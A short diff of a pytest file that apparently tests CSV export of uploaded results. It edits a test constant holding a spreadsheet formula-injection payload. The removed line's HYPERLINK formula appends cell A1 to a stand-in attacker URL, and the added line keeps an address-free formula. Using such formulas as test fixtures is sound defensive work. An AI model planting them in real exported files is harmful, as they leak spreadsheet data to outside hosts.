@@ -7,7 +7,8 @@ import pytest
 
 from conftest import csv_table, make_payload, new_key, sign
 
-EVIL = '=HYPERLINK("http://evil.example/?"&A1, "click") -2'
+# A formula with no address in it (a name with one is never shown, issue 37).
+EVIL = '=HYPERLINK("evil"&A1, "click") -2'
 
 
 def upload(server, decode, name="Qwen2.5-7B-Instruct", hw="M3 Ultra"):
